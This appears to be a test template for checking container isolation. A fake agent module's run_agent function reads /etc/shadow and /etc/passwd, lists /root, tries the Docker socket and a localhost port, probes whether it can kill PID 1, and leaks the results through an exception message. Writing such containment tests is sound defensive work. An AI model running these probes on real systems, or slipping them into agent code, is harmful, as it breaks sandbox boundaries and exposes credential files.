# Attack: in a container (reduced mode, started as root), find out who we are and read what only
# root may read: /etc/shadow, root's home folder, the host's /etc/passwd, a root-owned socket
# (Docker's). Everything found goes into the report through run_agent's exception message.
import os
import socket

CANARY = "@@CANARY@@"


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4096).decode("utf-8", "replace")
    except OSError as exc:
        return type(exc).__name__


def _listing(path):
    try:
        return repr(sorted(os.listdir(path)))
    except OSError as exc:
        return type(exc).__name__


def _connect(path):
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            return "conectou"
    except OSError as exc:
        return type(exc).__name__


def _tcp():
    try:
        with socket.socket() as sock:
            sock.connect(("127.0.0.1", int("@@PORT@@")))
            sock.sendall(b"@@CANARY@@")
            return "conectou"
    except OSError as exc:
        return type(exc).__name__


def collect():
    return (f"{CANARY} uid={os.getuid()} euid={os.geteuid()} gid={os.getgid()} groups={os.getgroups()} "
            f"shadow={_read('/etc/shadow')} passwd={_read('/etc/passwd')} root={_listing('/root')} "
            f"docker={_connect('@@SOCKET@@')} tcp={_tcp()} "
            f"kill1={_try_kill(1)} killparent={_try_kill(os.getppid())}")


def _try_kill(pid):
    try:
        os.kill(pid, 0)
        return "ok"
    except OSError as exc:
        return type(exc).__name__


def run_agent(task, tools, call_model, execute_tool):
    raise RuntimeError(collect())
